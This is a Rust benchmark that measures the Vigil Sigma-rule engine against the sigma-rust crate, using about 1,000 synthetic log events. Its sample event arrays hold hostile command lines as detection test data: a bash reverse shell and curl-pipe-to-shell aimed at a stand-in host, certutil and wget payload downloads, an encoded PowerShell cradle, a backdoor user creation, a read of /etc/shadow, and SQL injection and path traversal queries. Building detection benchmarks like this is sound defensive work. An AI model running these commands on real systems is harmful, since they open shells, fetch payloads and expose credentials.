//! Single-event evaluation on real rules: SigmaHQ rules (loaded with unserved log sources applied
//! to every event) plus the shipped pack, over a realistic mix of ~1,000 Vigil events; and, in
//! the same run, the `sigma-rust` crate on the same single-event rule texts and the same events.
//!
//! Rule selection (deterministic): the pack (`rules/*.yml`, 3-4 files) plus SigmaHQ files sorted
//! by path with every file under a `linux` directory first and the other files after, cut at 997
//! files (about 1,000 rules with the pack). The 10 and 100 sizes take the pack plus 7 and 97
//! SigmaHQ files at an even stride through that list, so every size sees the same mix of Linux,
//! Windows, web and cloud rules.
//!
//! sigma-rust gets each event as a JSON object with the ECS names Vigil uses (`process.name`,
//! `url.path`, ...) *and*, for every name of Vigil's field map (`Image`, `c-uri`, `User`, ...),
//! the same value under the Sigma name, so each rule finds its fields under the names it was
//! written with; `extra` keys appear as they are (`CommandLine`, `ParentImage`, ...). Numbers
//! (ports, status codes, all-digit `extra` values such as `EventID`) are JSON numbers, because
//! sigma-rust compares types strictly. Conversion happens once, outside the timing.
//!
//! At the end the bench prints a side-by-side table (one timed pass per size, both engines in
//! this process) with events/s, the ratio and how many (event, rule) matches each engine found.
#![allow(clippy::unwrap_used)]

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration as StdDuration, Instant};

use chrono::{DateTime, Duration, Utc};
use criterion::{BatchSize, BenchmarkId, Criterion, Throughput};
use vigil_correlate::fields::FIELD_MAP;
use vigil_correlate::{Engine, EngineLimits, LoadOptions, RuleKind, RuleSet, RuleSource};
use vigil_parsers::event::{Event, FieldValue, CORE_FIELDS};

/// SigmaHQ rule files plus 3 for the largest size (997 SigmaHQ files, then the pack).
const MAX_FILES: usize = 1000;
const SIZES: [usize; 3] = [10, 100, 1000];

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("crate sits in the workspace")
        .to_path_buf()
}

fn yml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten() {
        let p = e.path();
        if p.is_dir() {
            yml_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "yml" || x == "yaml") {
            out.push(p);
        }
    }
}

fn read(paths: &[PathBuf]) -> Vec<RuleSource> {
    paths
        .iter()
        .map(|p| RuleSource {
            path: p.display().to_string(),
            text: std::fs::read_to_string(p).expect("rule file reads"),
        })
        .collect()
}

/// `(pack files, SigmaHQ files in selection order)`.
fn rule_files() -> (Vec<RuleSource>, Vec<RuleSource>) {
    let root = workspace();
    let mut pack = Vec::new();
    if let Ok(entries) = std::fs::read_dir(root.join("rules")) {
        pack = entries
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.is_file() && p.extension().is_some_and(|x| x == "yml"))
            .collect();
    }
    pack.sort();
    let mut sigma = Vec::new();
    yml_files(&root.join("fixtures/sigma/rules"), &mut sigma);
    sigma.sort();
    let is_linux = |p: &PathBuf| p.components().any(|c| c.as_os_str() == "linux");
    let (mut chosen, others): (Vec<PathBuf>, Vec<PathBuf>) = sigma.into_iter().partition(is_linux);
    let room = MAX_FILES - 3;
    chosen.extend(others);
    chosen.truncate(room);
    (read(&pack), read(&chosen))
}

/// The pack plus `n - 3` SigmaHQ files taken at an even stride (the SigmaHQ part does not
/// depend on how many files the pack has, so runs stay comparable when the pack grows).
fn subset(pack: &[RuleSource], sigma: &[RuleSource], n: usize) -> Vec<RuleSource> {
    let want = n.saturating_sub(3).max(1);
    let mut out = pack.to_vec();
    if want >= sigma.len() {
        out.extend(sigma.iter().cloned());
    } else {
        let stride = sigma.len() as f64 / want as f64;
        out.extend((0..want).map(|i| sigma[(i as f64 * stride) as usize].clone()));
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Events
// ---------------------------------------------------------------------------------------------

struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (self.0 >> 33) as usize
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.next() % xs.len()]
    }
}

const USERS: &[&str] = &[
    "root", "admin", "deploy", "alice", "bob", "oracle", "ubuntu", "test", "git", "postgres",
];
const HOSTS: &[&str] = &[
    "web-01", "web-02", "db-01", "bastion", "build-7", "WKS-0042",
];
const URLS: &[&str] = &[
    "/",
    "/index.html",
    "/api/v1/users",
    "/api/v1/orders/1234",
    "/login",
    "/static/app.js",
    "/wp-login.php",
    "/.env",
    "/cgi-bin/test.cgi",
    "/admin/config.php",
    "/images/logo.png",
    "/search",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/actuator/health",
];
const QUERIES: &[&str] = &[
    "",
    "?q=shoes",
    "?page=2",
    "?id=1%27%20OR%201=1--",
    "?file=../../../../etc/passwd",
    "?cmd=whoami",
    "?redirect=https://example.org/",
    "?lang=en",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "curl/8.4.0",
    "python-requests/2.31.0",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Go-http-client/1.1",
    "Nmap Scripting Engine",
];
const SUDO_CMDS: &[&str] = &[
    "/usr/bin/apt update",
    "/usr/bin/systemctl restart nginx",
    "/bin/cat /etc/shadow",
    "/usr/bin/vim /etc/hosts",
    "/bin/bash",
    "/usr/bin/journalctl -u sshd",
];
const CRON_CMDS: &[&str] = &[
    "run-parts /etc/cron.hourly",
    "/usr/local/bin/backup.sh",
    "curl -s http://203.0.113.9/x.sh | sh",
    "cd / && run-parts --report /etc/cron.daily",
];
const KERNEL: &[&str] = &[
    "Out of memory: Killed process 4242 (java) total-vm:8123456kB",
    "EXT4-fs (sda1): mounted filesystem with ordered data mode",
    "e1000e 0000:00:1f.6 eth0: NIC Link is Up 1000 Mbps Full Duplex",
    "TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.",
    "audit: type=1400 audit(1700000000.123:42): apparmor=\"DENIED\" operation=\"open\"",
    "usb 1-1: new high-speed USB device number 3 using xhci_hcd",
];
/// Windows process creations: (Image, CommandLine, ParentImage).
const WIN: &[(&str, &str, &str)] = &[
    (
        "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe /c dir C:\\Users",
        "C:\\Windows\\explorer.exe",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1",
        "C:\\Windows\\System32\\svchost.exe",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\whoami.exe",
        "whoami /all",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.9/payload.exe C:\\Users\\Public\\p.exe",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\net.exe",
        "net user /domain",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    ),
    (
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL",
        "C:\\Windows\\explorer.exe",
    ),
    (
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "C:\\Windows\\System32\\services.exe",
    ),
    (
        "C:\\Windows\\System32\\reg.exe",
        "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\notepad.exe",
        "notepad.exe C:\\Users\\alice\\notes.txt",
        "C:\\Windows\\explorer.exe",
    ),
];
/// Linux process executions (auditd-ish): (exe, command line).
const LNX: &[(&str, &str)] = &[
    (
        "/usr/bin/curl",
        "curl -fsSL https://get.example.com/install.sh",
    ),
    ("/usr/bin/wget", "wget http://203.0.113.9/x -O /tmp/x"),
    ("/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("/usr/bin/python3", "python3 /opt/app/manage.py migrate"),
    ("/usr/bin/base64", "base64 -d /tmp/payload.b64"),
    ("/usr/bin/crontab", "crontab -l"),
    ("/usr/bin/ls", "ls -la /var/www"),
    ("/usr/sbin/useradd", "useradd -m -s /bin/bash backdoor"),
];

fn t0() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-11-29T00:00:00Z")
        .expect("valid time")
        .with_timezone(&Utc)
}

fn set(e: &mut Event, k: &str, v: &str) {
    e.set(k, v).expect("bench field value is valid");
}

fn ip(rng: &mut Lcg) -> String {
    match rng.next() % 4 {
        0 => format!("10.0.{}.{}", rng.next() % 256, rng.next() % 254 + 1),
        1 => format!("192.168.{}.{}", rng.next() % 4, rng.next() % 254 + 1),
        _ => format!(
            "{}.{}.{}.{}",
            rng.next() % 200 + 23,
            rng.next() % 256,
            rng.next() % 256,
            rng.next() % 254 + 1
        ),
    }
}

/// About 1,000 varied events: 25 % sshd, 8 % sudo, 6 % cron, 8 % kernel, 12 % firewall,
/// 20 % web access, 15 % Windows process creation, 6 % Linux process execution.
fn events(n: usize) -> Vec<Arc<Event>> {
    let mut rng = Lcg(2026);
    (0..n)
        .map(|i| {
            let t = t0() + Duration::milliseconds(i as i64 * 37);
            let mut e = Event::new(t, t);
            let host = rng.pick(HOSTS);
            set(&mut e, "host.name", host);
            let kind = rng.next() % 100;
            let user = rng.pick(USERS);
            match kind {
                0..=24 => {
                    let src = ip(&mut rng);
                    let port = (rng.next() % 60000 + 1024).to_string();
                    set(&mut e, "observer.type", "syslog");
                    set(&mut e, "process.name", "sshd");
                    set(&mut e, "event.dataset", "openssh");
                    set(&mut e, "event.category", "authentication");
                    set(&mut e, "event.action", "ssh_login");
                    set(&mut e, "source.ip", &src);
                    set(&mut e, "source.port", &port);
                    set(&mut e, "user.name", user);
                    let msg = match rng.next() % 5 {
                        0 | 1 => {
                            set(&mut e, "event.outcome", "failure");
                            format!("Failed password for {user} from {src} port {port} ssh2")
                        }
                        2 => {
                            set(&mut e, "event.outcome", "failure");
                            format!(
                                "Failed password for invalid user {user} from {src} port {port} ssh2"
                            )
                        }
                        3 => {
                            set(&mut e, "event.outcome", "success");
                            format!("Accepted publickey for {user} from {src} port {port} ssh2: ED25519 SHA256:abc")
                        }
                        _ => {
                            set(&mut e, "event.action", "ssh_disconnect");
                            format!("Connection closed by authenticating user {user} {src} port {port} [preauth]")
                        }
                    };
                    set(&mut e, "message", &msg);
                }
                25..=32 => {
                    set(&mut e, "observer.type", "syslog");
                    set(&mut e, "process.name", "sudo");
                    set(&mut e, "event.dataset", "sudo");
                    set(&mut e, "event.category", "authentication");
                    set(&mut e, "user.name", user);
                    let cmd = rng.pick(SUDO_CMDS);
                    set(
                        &mut e,
                        "message",
                        &format!("{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"),
                    );
                }
                33..=38 => {
                    set(&mut e, "observer.type", "file");
                    set(&mut e, "process.name", "CRON");
                    let cmd = rng.pick(CRON_CMDS);
                    set(&mut e, "message", &format!("({user}) CMD ({cmd})"));
                }
                39..=46 => {
                    set(&mut e, "observer.type", "syslog");
                    set(&mut e, "process.name", "kernel");
                    set(&mut e, "message", rng.pick(KERNEL));
                }
                47..=58 => {
                    let (src, dst) = (ip(&mut rng), ip(&mut rng));
                    let dport = ["22", "23", "80", "443", "445", "3389", "21", "25"][rng.next() % 8];
                    let proto = ["TCP", "UDP"][rng.next() % 2];
                    set(&mut e, "observer.type", "syslog");
                    set(&mut e, "process.name", "kernel");
                    set(&mut e, "event.category", "network");
                    set(&mut e, "event.type", "denied");
                    set(&mut e, "source.ip", &src);
                    set(&mut e, "destination.ip", &dst);
                    set(&mut e, "destination.port", dport);
                    set(&mut e, "network.transport", &proto.to_ascii_lowercase());
                    set(
                        &mut e,
                        "message",
                        &format!("[UFW BLOCK] IN=eth0 OUT= SRC={src} DST={dst} PROTO={proto} SPT={} DPT={dport}", rng.next() % 60000 + 1024),
                    );
                }
                59..=78 => {
                    let src = ip(&mut rng);
                    let path = rng.pick(URLS);
                    let query = rng.pick(QUERIES);
                    let method = ["GET", "GET", "GET", "POST", "HEAD", "PUT"][rng.next() % 6];
                    let status = ["200", "200", "200", "304", "404", "403", "500", "301"]
                        [rng.next() % 8];
                    let agent = rng.pick(AGENTS);
                    set(&mut e, "observer.type", "syslog");
                    set(&mut e, "process.name", "nginx");
                    set(&mut e, "event.dataset", "nginx.access");
                    set(&mut e, "event.category", "web");
                    set(&mut e, "source.ip", &src);
                    set(&mut e, "http.request.method", method);
                    set(&mut e, "url.path", path);
                    set(&mut e, "http.response.status_code", status);
                    set(&mut e, "c-useragent", agent);
                    set(&mut e, "cs-uri-query", query);
                    set(&mut e, "cs-host", "shop.example.com");
                    set(
                        &mut e,
                        "message",
                        &format!("{src} - - \"{method} {path}{query} HTTP/1.1\" {status} 512 \"-\" \"{agent}\""),
                    );
                }
                79..=93 => {
                    let (image, cmd, parent) = WIN[rng.next() % WIN.len()];
                    set(&mut e, "observer.type", "syslog");
                    set(&mut e, "event.category", "process");
                    set(&mut e, "event.dataset", "sysmon");
                    set(&mut e, "process.name", image);
                    set(&mut e, "user.name", &format!("CORP\\{user}"));
                    set(&mut e, "EventID", "1");
                    set(&mut e, "CommandLine", cmd);
                    set(&mut e, "ParentImage", parent);
                    set(
                        &mut e,
                        "OriginalFileName",
                        image.rsplit('\\').next().unwrap_or(image),
                    );
                    set(&mut e, "IntegrityLevel", "Medium");
                    set(&mut e, "CurrentDirectory", "C:\\Users\\Public\\");
                    set(
                        &mut e,
                        "message",
                        &format!("Process Create: Image: {image} CommandLine: {cmd}"),
                    );
                }
                _ => {
                    let (exe, cmd) = LNX[rng.next() % LNX.len()];
                    set(&mut e, "observer.type", "syslog");
                    set(&mut e, "event.category", "process");
                    set(&mut e, "process.name", exe);
                    set(&mut e, "user.name", user);
                    set(&mut e, "CommandLine", cmd);
                    set(&mut e, "ParentImage", "/bin/bash");
                    set(&mut e, "type", "EXECVE");
                    set(&mut e, "message", &format!("exe=\"{exe}\" cmd=\"{cmd}\""));
                }
            }
            Arc::new(e)
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// sigma-rust side
// ---------------------------------------------------------------------------------------------

/// The event as sigma-rust takes it: ECS names, Sigma names of the field map, `extra` keys.
fn to_sigma_rust(e: &Event) -> sigma_rust::Event {
    let mut obj = serde_json::Map::new();
    let json = |v: FieldValue<'_>| match v {
        FieldValue::Int(i) => serde_json::Value::from(i),
        FieldValue::Str(s) if !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()) => s
            .parse::<i64>()
            .map_or_else(|_| serde_json::Value::from(s), serde_json::Value::from),
        other => serde_json::Value::from(other.as_text().into_owned()),
    };
    for name in CORE_FIELDS {
        if matches!(*name, "@timestamp" | "event.ingested" | "event.original") {
            continue;
        }
        if let Some(v) = e.get(name) {
            obj.insert((*name).to_owned(), json(v));
        }
    }
    for (k, v) in &e.extra {
        obj.insert(k.to_string(), json(FieldValue::Str(v)));
    }
    for (sigma, ecs) in FIELD_MAP {
        if let Some(v) = e.get(ecs) {
            obj.insert((*sigma).to_owned(), json(v));
        }
    }
    sigma_rust::Event::try_from(serde_json::Value::Object(obj)).expect("flat JSON object")
}

/// The single-event rules of `sources` sigma-rust parses (one per YAML document).
fn sigma_rust_rules(sources: &[RuleSource]) -> (Vec<sigma_rust::Rule>, usize) {
    let mut rules = Vec::new();
    let mut refused = 0;
    for s in sources {
        for doc in s.text.split("\n---") {
            if !doc.contains("detection:") {
                continue;
            }
            match sigma_rust::rule_from_yaml(doc) {
                Ok(r) => rules.push(r),
                Err(_) => refused += 1,
            }
        }
    }
    (rules, refused)
}

// ---------------------------------------------------------------------------------------------
// Runs
// ---------------------------------------------------------------------------------------------

struct Size {
    n: usize,
    set: Arc<RuleSet>,
    detections: usize,
    sigma: Vec<sigma_rust::Rule>,
    sigma_refused: usize,
}

fn sizes() -> Vec<Size> {
    let (pack, sigma) = rule_files();
    SIZES
        .iter()
        .map(|&n| {
            let sources = subset(&pack, &sigma, n);
            let (set, errors) = RuleSet::from_sources_with(
                &sources,
                &LoadOptions {
                    apply_unserved_logsources: true,
                    ..Default::default()
                },
            );
            assert!(errors.is_empty(), "rules fail to load: {errors:?}");
            let detections = set
                .rules()
                .iter()
                .filter(|r| r.kind == RuleKind::Detection)
                .count();
            let (sigma, sigma_refused) = sigma_rust_rules(&sources);
            Size {
                n,
                set: Arc::new(set),
                detections,
                sigma,
                sigma_refused,
            }
        })
        .collect()
}

fn vigil_pass(engine: &mut Engine, evs: &[Arc<Event>], out: &mut Vec<vigil_correlate::Detection>) {
    for e in evs {
        out.clear();
        engine.process(e, out);
    }
}

fn sigma_pass(rules: &[sigma_rust::Rule], evs: &[sigma_rust::Event]) -> usize {
    let mut hits = 0;
    for e in evs {
        for r in rules {
            if r.is_match(e) {
                hits += 1;
            }
        }
    }
    hits
}

fn criterion_runs(
    c: &mut Criterion,
    sizes: &[Size],
    evs: &[Arc<Event>],
    sevs: &[sigma_rust::Event],
) {
    let mut group = c.benchmark_group("sigmahq");
    group.throughput(Throughput::Elements(evs.len() as u64));
    for s in sizes {
        let mut out = Vec::new();
        // A fresh engine per pass: replaying the same event times into one engine would pile
        // every pass into the same correlation windows, which no real stream does.
        group.bench_with_input(BenchmarkId::new("vigil", s.n), &s.n, |b, _| {
            b.iter_batched_ref(
                || Engine::new(Arc::clone(&s.set), EngineLimits::default()),
                |engine| vigil_pass(engine, evs, &mut out),
                BatchSize::SmallInput,
            )
        });
    }
    group.finish();
    // sigma-rust is slow enough that a few events per iteration and ten samples suffice.
    let mut group = c.benchmark_group("sigmahq");
    group.sample_size(10);
    for s in sizes {
        let k = (40_000 / s.sigma.len().max(1)).clamp(5, sevs.len());
        let sample = &sevs[..k];
        group.throughput(Throughput::Elements(k as u64));
        group.bench_with_input(BenchmarkId::new("sigma_rust", s.n), &s.n, |b, _| {
            b.iter(|| sigma_pass(&s.sigma, sample))
        });
    }
    group.finish();
}

/// Events/s of `pass` over `len` events, repeating it for at least `min` wall time.
fn rate(len: usize, min: StdDuration, mut pass: impl FnMut()) -> f64 {
    pass();
    let start = Instant::now();
    let mut done = 0usize;
    while start.elapsed() < min || done == 0 {
        pass();
        done += len;
    }
    done as f64 / start.elapsed().as_secs_f64()
}

fn side_by_side(sizes: &[Size], evs: &[Arc<Event>], sevs: &[sigma_rust::Event]) {
    println!();
    println!(
        "side by side, same process, same rule texts and events ({} events in the mix)",
        evs.len()
    );
    println!(
        "| size | Vigil rules (detections) | Vigil events/s | sigma-rust rules (refused) | sigma-rust events/s | ratio | matches Vigil / sigma-rust |"
    );
    println!("| ---: | ---: | ---: | ---: | ---: | ---: | ---: |");
    for s in sizes {
        let mut out = Vec::new();
        let vigil = rate(evs.len(), StdDuration::from_secs(2), || {
            let mut engine = Engine::new(Arc::clone(&s.set), EngineLimits::default());
            vigil_pass(&mut engine, evs, &mut out)
        });
        let vigil_hits: usize = evs.iter().map(|e| s.set.matching_rules(e).len()).sum();
        let k = (40_000 / s.sigma.len().max(1)).clamp(5, sevs.len());
        let sample = &sevs[..k];
        let sigma = rate(k, StdDuration::from_secs(3), || {
            std::hint::black_box(sigma_pass(&s.sigma, sample));
        });
        let sigma_hits = sigma_pass(&s.sigma, sevs);
        println!(
            "| {} | {} ({}) | {:.0} | {} ({}) | {:.0} | {:.0}x | {} / {} |",
            s.n,
            s.set.len(),
            s.detections,
            vigil,
            s.sigma.len(),
            s.sigma_refused,
            sigma,
            vigil / sigma.max(1e-9),
            vigil_hits,
            sigma_hits
        );
    }
}

fn main() {
    let evs = events(1000);
    let sevs: Vec<sigma_rust::Event> = evs.iter().map(|e| to_sigma_rust(e)).collect();
    let sizes = sizes();
    let mut c = Criterion::default().configure_from_args();
    criterion_runs(&mut c, &sizes, &evs, &sevs);
    c.final_summary();
    // `SIGMAHQ_SIDE_BY_SIDE=0` skips the table (for profiling one criterion bench).
    let table = std::env::var("SIGMAHQ_SIDE_BY_SIDE").map_or(true, |v| v != "0");
    if table && std::env::args().any(|a| a == "--bench") {
        side_by_side(&sizes, &evs, &sevs);
    }
}
